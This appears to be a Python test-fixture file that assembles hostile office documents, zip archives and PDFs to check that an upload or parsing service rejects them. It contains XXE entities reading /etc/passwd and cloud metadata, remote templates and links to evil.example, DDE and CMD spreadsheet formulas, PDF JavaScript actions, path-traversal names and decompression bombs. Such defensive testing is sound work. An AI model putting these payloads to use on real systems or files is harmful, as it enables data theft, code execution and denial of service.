"""Office documents, archives and PDFs that run, call out, or unpack without an end."""

from __future__ import annotations

import stat
import zipfile
import zlib

from tests.faults.hostile.blocks import (
    TYPES,
    WORD,
    Make,
    docx,
    locked,
    patched,
    pdf,
    raw_zip,
    relation,
    stream,
    xlsx,
    zeros,
    zipped,
)  # fmt: skip
from tests.faults.hostile.pictures import EICAR

LAUGHS = (
    b'<!DOCTYPE l [<!ENTITY a "ha">'
    + b"".join(b'<!ENTITY a%d "&a%d;&a%d;">' % (n + 1, n, n) for n in range(30))
    + b"]>"
)
ENTITIES = {
    "file": b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    "network": b'<!DOCTYPE a [<!ENTITY b SYSTEM "http://169.254.169.254/">]><a>&b;</a>',
    "parameter": b'<!DOCTYPE a [<!ENTITY % b SYSTEM "http://evil.example/x.dtd">%b;]><a/>',
    "foreign definition": b'<!DOCTYPE a SYSTEM "http://evil.example/x.dtd"><a/>',
    "public definition": b'<!DOCTYPE a PUBLIC "-//X//Y" "http://evil.example/x.dtd"><a/>',
    "laughs": LAUGHS + b"<a>&a30;</a>",
    "quadratic": b'<!DOCTYPE a [<!ENTITY b "' + b"x" * 50_000 + b'">]><a>' + b"&b;" * 50_000 + b"</a>",
    "behind a long comment": b"<!-- " + b"random-ish words " * 3000 + b'--><!DOCTYPE a [<!ENTITY b SYSTEM "file:///x">]><a/>',
    "in utf-16": b"\xff\xfe" + '<!DOCTYPE a [<!ENTITY b "c">]><a/>'.encode("utf-16-le"),
    "in utf-7": b'<?xml version="1.0" encoding="utf-7"?>+ADwAIQ-DOCTYPE a+AD4-',
    "in ebcdic": '<?xml version="1.0" encoding="cp037"?><a/>'.encode("cp037"),
    "in small letters": b'<!doctype a [<!entity b "c">]><a/>',
}  # fmt: skip
NAMES = (
    "../../etc/passwd", "..\\..\\windows\\x", "/etc/passwd", "\\\\server\\share\\x", "C:\\x.xml", "c:/x.xml", "word/../../x.xml",
    "word/con.xml", "NUL", "aux.png", "word/COM1.xml", "word/lpt9.vml", "word/a\nb.xml", "word/a\x1b[2Jb.xml", "word/gnp\u202elmx.xml",
    "word/x.xml ", "word/x.xml.", "word//x.xml", "./word/x.xml", "word/" + "n" * 400 + ".xml", "word/x.xml:stream", "word/media/a.png::$DATA",
)  # fmt: skip
MEMBERS = {
    "word/vbaProject.bin": b"x", "word/vbaData.xml": b"<a/>" + b" vbaProject", "word/activeX/activeX1.xml": b"<a/>", "word/embeddings/oleObject1.bin": b"\xd0\xcf",
    "word/embeddings/a.exe": b"MZ", "word/media/image1.png": b"MZ\x90\0", "word/media/image2.jpg": zipped({"a": b"b"}), "word/evil.js": b"x",
    "word/evil.hta": b"x", "word/a.scr": b"x", "word/a.lnk": b"x", "word/a.ps1": b"x", "word/a.bat": b"x", "word/afchunk.mht": b"x", "word/a.html": b"<html>",
    "customUI/customUI.xml": b'<customUI onLoad="x"/>', "word/media/a.svg": b"<svg><script>alert(1)</script></svg>", "eicar.com": EICAR,
    "word/embeddings/eicar.txt": EICAR, "word/a.class": b"\xca\xfe\xba\xbe", "word/webextension.dll": b"MZ",
}  # fmt: skip
OUTSIDE = {
    "template": ("attachedTemplate", "http://evil.example/t.dotm"), "template of a share": ("attachedTemplate", "\\\\evil.example\\t.dotm"),
    "template of a foreign host": ("attachedTemplate", "file://evil.example/t.dotm"), "object": ("oleObject", "http://evil.example/x"),
    "object of msdt": ("oleObject", "mhtml:http://evil.example/x!x-usc:http://evil.example/x"), "picture inside the house": ("image", "http://192.168.1.1/reboot"), "picture of a port": ("image", "http://evil.example:8080/a.png"),
    "picture of an account": ("image", "https://a@evil.example/a.png"), "picture of a name in the house": ("image", "http://printer/a.png"),
    "picture of the intranet": ("image", "http://oa.corp/a.png"), "picture of a file": ("image", "file://evil.example/a.png"), "picture that runs": ("image", "mhtml:http://evil.example/x"),
    "picture of a share": ("image", "//evil.example/pixel.png"), "frame": ("frame", "http://evil.example/"), "part": ("subDocument", "http://evil.example/"),
    "chunk": ("aFChunk", "http://evil.example/"), "link that runs": ("hyperlink", "javascript:alert(1)"), "link to a tool": ("hyperlink", "ms-msdt:/id PCWDiagnostic"),
    "link to a share": ("hyperlink", "\\\\evil.example\\x"), "link to a search": ("hyperlink", "search-ms:query=x"), "link to a host": ("hyperlink", "file://evil.example/x"),
}  # fmt: skip
FORMULAS = (
    "cmd|'/C calc'!A0", "DDE|&apos;x&apos;!A", 'WEBSERVICE("http://evil.example/"&amp;A1)', 'CALL("kernel32","WinExec","JCJ","calc",0)', 'EXEC("calc")',
    'REGISTER("urlmon","x")', 'RTD("evil.server",,"x")',
)  # fmt: skip
FIELDS = (
    b"<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText>", b"<w:instrText>DD</w:instrText><w:r/><w:instrText>EAUTO c:\\\\x</w:instrText>",
    b'<w:fldSimple w:instr="DDE cmd x"/>', b'<w:instrText>INCLUDEPICTURE "http://10.0.0.1/p.png"</w:instrText>',
    b'<w:instrText>INCLUDEPICTURE \\d "http://printer/p.png"</w:instrText>', b'<w:instrText>INCLUDEPICTURE "http://oa.local/p.png"</w:instrText>',
    b'<w:instrText>INCLUDETEXT "http://evil.example/p.docx"</w:instrText>', b'<w:instrText>INCLUDEPICTURE "file://evil.example/p.png"</w:instrText>',
    b"<w:instrText>INCLUDETEXT &quot;\\\\\\\\evil.example\\\\x&quot;</w:instrText>",
)  # fmt: skip


def _member(name: str, size: int) -> tuple[str, bytes, int, int]:
    """A member of zeros with its true checksum."""
    checksum = 0
    for _ in range(size >> 20):
        checksum = zlib.crc32(bytes(1 << 20), checksum)
    return name, zeros(size), size, checksum


def _small(name: str, content: bytes = b"<a/>") -> tuple[str, bytes, int, int]:
    engine = zlib.compressobj(9, zlib.DEFLATED, -15)
    return name, engine.compress(content) + engine.flush(), len(content), zlib.crc32(content)


def _nested(depth: int, content: bytes) -> bytes:
    for _ in range(depth):
        content = zipped({f"{number}.zip": content for number in range(4)})
    return content


def _overlapping(number: int) -> bytes:
    """Many names for one large body."""
    body = _member("a.xml", 8 << 20)
    names = [_small(TYPES), _small(WORD)]
    place = sum(30 + len(name) + len(packed) for name, packed, _, _ in names)
    first = [0, 30 + len(names[0][0]) + len(names[0][1]), place]
    return raw_zip([*names, body, *((f"b{n}.xml", *body[1:]) for n in range(number))], first + [place] * number)


def _lying(promised: int) -> bytes:
    name, packed, _, checksum = _member("word/media/a.png", 64 << 20)
    return raw_zip([_small(TYPES), _small(WORD), (name, packed, promised, checksum)])


ARCHIVES: dict[str, Make] = {
    "bomb of 300 MB": lambda: raw_zip([_small(TYPES), _small(WORD), _member("word/big.xml", 300 << 20)]),
    "bomb of many small": lambda: docx({f"word/{n}.xml": bytes(3 << 20) for n in range(60)}),
    "bomb in a picture": lambda: raw_zip([_small(TYPES), _small(WORD), _member("word/media/a.png", 250 << 20)]),
    "bomb of nested archives": lambda: docx({"word/embeddings/a.xlsx": _nested(4, zipped({"a": bytes(1 << 20)}))}),
    "archive of archives": lambda: _nested(5, zipped({"a": bytes(1 << 20)})),
    "workbook in a workbook in a workbook": lambda: docx({"word/embeddings/a.xlsx": xlsx(parts={"xl/embeddings/b.xlsx": xlsx()})}),
    "document that holds itself by name": lambda: docx({"word/embeddings/a.xlsx": docx()}),
    "overlapping members": lambda: _overlapping(200),
    "two members in one place": lambda: _overlapping(1),
    "6,000 members": lambda: docx({f"word/{n}.xml": b"" for n in range(6000)}),
    "200,000 members": lambda: raw_zip([(f"{n}", b"", 0, 0) for n in range(200_000)]),
    "promises 100 bytes, holds 64 MB": lambda: _lying(100),
    "promises nothing": lambda: _lying(0),
    "promises 4 GB": lambda: _lying(0xFFFFFFFE),
    "wrong checksum": lambda: patched(docx({"word/a.xml": b"<b/>"}), b"PK\x01\x02", 16, b"evil"),
    "names that differ inside and outside": lambda: patched(docx(), b"PK\x03\x04", 30, b"evil"),
    "one name twice": lambda: raw_zip([_small(TYPES), _small(WORD), _small(WORD, b"<b/>")]),
    "one name twice in other letters": lambda: docx({"WORD/DOCUMENT.XML": b"<b/>"}),
    "link of unix": lambda: docx({"word/a.png": b"/etc/shadow"}, external_attr=(stat.S_IFLNK | 0o777) << 16),
    "packed with bzip2": lambda: docx(compress_type=zipfile.ZIP_BZIP2),
    "packed with lzma": lambda: docx(compress_type=zipfile.ZIP_LZMA),
    "encrypted": lambda: patched(patched(docx(), b"PK\x01\x02", 8, b"\1\0"), b"PK\x03\x04", 6, b"\1\0"),
    "unknown packing": lambda: patched(docx(), b"PK\x01\x02", 10, b"\x63\0"),
    "something before the archive": lambda: b"PK\x03\x04 and a page <script>" + docx(),
    "directory beyond the end": lambda: patched(docx(), b"PK\x05\x06", 16, b"\xff\xff\xff\x7f"),
    "directory cut off": lambda: docx()[:-30],
    "open document": lambda: zipped({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<a/>"}),
    "java archive": lambda: zipped({"META-INF/MANIFEST.MF": b"Main-Class: x", "x.class": b"\xca\xfe"}),
    "android program": lambda: zipped({"AndroidManifest.xml": b"x", "classes.dex": b"dex\n035"}),
    "markup of 150 MB": lambda: docx({f"word/{n}.xml": (b"<a>" + bytes(range(32, 60)) * 8) * 30_000 for n in range(22)}),
}  # fmt: skip
OFFICE: dict[str, Make] = {
    **{f"entity {name}, word": lambda body=body: docx({"word/x.xml": body}) for name, body in ENTITIES.items()},
    **{f"entity {name}, relations": lambda body=body: docx({"word/_rels/x.rels": body}) for name, body in ENTITIES.items()},
    **{f"member called {name[:30]!r}": lambda name=name: docx({name: b"<a/>"}) for name in NAMES},
    **{f"holds {name}": lambda name=name, body=body: docx({name: body}) for name, body in MEMBERS.items()},
    **{f"fetches {name}": lambda kind=kind, to=to: docx({"word/_rels/document.xml.rels": relation(kind, to)}) for name, (kind, to) in OUTSIDE.items()},
    **{f"formula {n}": lambda f=f: xlsx(f'<row r="1"><c r="A1"><f>{f}</f></c></row>'.encode()) for n, f in enumerate(FORMULAS)},
    **{f"field {n}": lambda f=f: docx({"word/footer1.xml": b"<w:p>" + f + b"</w:p>"}) for n, f in enumerate(FIELDS)},
    "dde link": lambda: xlsx(parts={"xl/externalLinks/externalLink1.xml": b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'}),
    "macro sheet": lambda: xlsx(parts={"xl/macrosheets/sheet1.xml": b"<a/>"}),
    "document with macros by its type": lambda: zipped({TYPES: b'<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>', WORD: b"<a/>"}),
}  # fmt: skip
JS = b"<</S /JavaScript /JS (app.alert(1))>>"
PDFS: dict[str, Make] = {
    "pdf with a script": lambda: pdf(b"<</OpenAction " + JS + b">>"),
    "pdf with an escaped script": lambda: pdf(b"<</S /J#61v#61Script /JS (x)>>"),
    "pdf with a wholly escaped script": lambda: pdf(b"<</S /" + b"".join(b"#%02x" % c for c in b"JavaScript") + b">>"),
    "pdf with a script in an object stream": lambda: pdf(stream(b"/Type /ObjStm /N 1 /First 4", b"1 0 " + JS)),
    "pdf with an escaped script in an object stream": lambda: pdf(stream(b"/Type /ObjStm /N 1 /First 4", b"1 0 <</S/J#61vaScript>>")),
    "pdf with a script far inside a stream": lambda: pdf(stream(b"/Type /ObjStm /N 1 /First 4", b" " * 3_000_000 + JS)),
    "pdf with a script far behind the head of a stream": lambda: pdf(stream(b"/Type /ObjStm /N 1 /First 4", b"1 0 " + b" " * 3_000_000 + JS)),
    "pdf with a script in a picture that is none": lambda: pdf(stream(b"/Type /ObjStm /Subtype /Image /N 1 /First 4", b"1 0 " + JS)),
    "pdf with objects behind two filters": lambda: pdf(b"<</Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]>>\nstream\n00>\nendstream"),
    "pdf with objects packed by lzw": lambda: pdf(b"<</Type /ObjStm /N 1 /First 4 /Filter /LZWDecode>>\nstream\nxx\nendstream"),
    "pdf with objects of a hidden type": lambda: pdf(b"/ObjStm", b"<</Type 1 0 R /N 1 /First 4 /Filter /ASCII85Decode>>\nstream\nxx\nendstream"),
    **{f"pdf with {mark}": lambda mark=mark: pdf(f"<</A <</S {mark} /F (x)>> >>".encode()) for mark in ("/Launch", "/SubmitForm", "/ImportData", "/GoToE", "/GoToR", "/RichMedia")},
    "pdf with a file inside": lambda: pdf(b"<</Names <</EmbeddedFiles 2 0 R>> >>", stream(b"/Type /EmbeddedFile", b"MZ")),
    "pdf with a form of xml": lambda: pdf(b"<</AcroForm <</XFA 2 0 R>> >>"),
    "pdf with a password": lambda: locked(user="geheim"),
    "pdf with a script behind the owner's password": lambda: locked(user="", script=True),
    "pdf with a script that opens with it, behind a broken table": lambda: pdf(b"<</OpenAction 2 0 R>>", JS).replace(b"startxref", b"startxxxx"),
    "pdf with a script outside its table": lambda: pdf(b"<<>>").replace(b"xref\n0 ", b"9 0 obj\n" + JS + b"\nendobj\nxref\n0 "),
    "pdf with a name that stands alone": lambda: pdf(b"<</OpenAction <</S 2 0 R /JS (app.alert(1))>> >>", b"/JavaScript"),
    "pdf that calls an address when it is opened": lambda: pdf(b"<</OpenAction <</S /URI /URI (http://evil.example/)>> >>"),
    "pdf whose page calls an address": lambda: pdf(b"<</X <</AA <</O <</S /URI /URI (http://evil.example/)>> >> >> >>"),
    "pdf with a link to a script": lambda: pdf(b"<</A <</S /URI /URI (javascript:alert\\(1\\))>> >>"),
    "pdf whose stream lies elsewhere": lambda: pdf(b"<</Length 0 /F <</FS /URL /F (http://evil.example/)>> >>\nstream\n\nendstream"),
    "pdf with objects one inside the other": lambda: pdf(stream(b"/Type /ObjStm /N 2 /First 9", b"5 0 6 12 <</S /JavaScript /JS (app.alert(1))>>")),
    "pdf bomb of objects": lambda: pdf(stream(b"/Type /ObjStm /N 1 /First 4", b"1 0 " + bytes(150 << 20))),
    "pdf bomb twice packed": lambda: pdf(b"<</Filter [/FlateDecode /FlateDecode] /Length %d>>\nstream\n%b\nendstream" % ((twice := zlib.compress(zlib.compress(bytes(50 << 20)))) and len(twice), twice)),
    "pdf of lists without an end": lambda: pdf(b"<</A " + b"[" * 100_000 + b"]" * 100_000 + b">>"),
    "pdf of 2 million objects": lambda: pdf(b"<<>>") + b"".join(b"%d 0 obj 1 endobj\n" % n for n in range(10, 2_000_000)) + b"%%EOF",
    "pdf whose pages are a circle": lambda: pdf(b"<<>>").replace(b"/Kids [2 0 R]", b"/Kids [3 0 R]"),
    "pdf bomb": lambda: pdf(stream(b"/Length1 1", bytes(300 << 20))),
    "pdf bomb of many streams": lambda: pdf(*[stream(b"", bytes(30 << 20))] * 12),
    "pdf of 100,000 streams": lambda: b"%PDF-1.7\n" + b"1 0 obj<</Filter/FlateDecode>>stream\nx\nendstream\n" * 100_000 + b"%%EOF",
    "pdf with a flood of pixels": lambda: pdf(stream(b"/Type /XObject /Subtype /Image /Width 100000 /Height 100000", b"x")),
    "pdf cut off": lambda: pdf(b"<<>>", end=b""),
    "pdf with an archive behind it": lambda: pdf(b"<<>>") + zipped({"a.exe": b"MZ"}),
    "pdf with a page inside": lambda: pdf(b"<<>>") + b"<script>alert(1)</script>",
}  # fmt: skip
CASES = ARCHIVES | OFFICE | PDFS
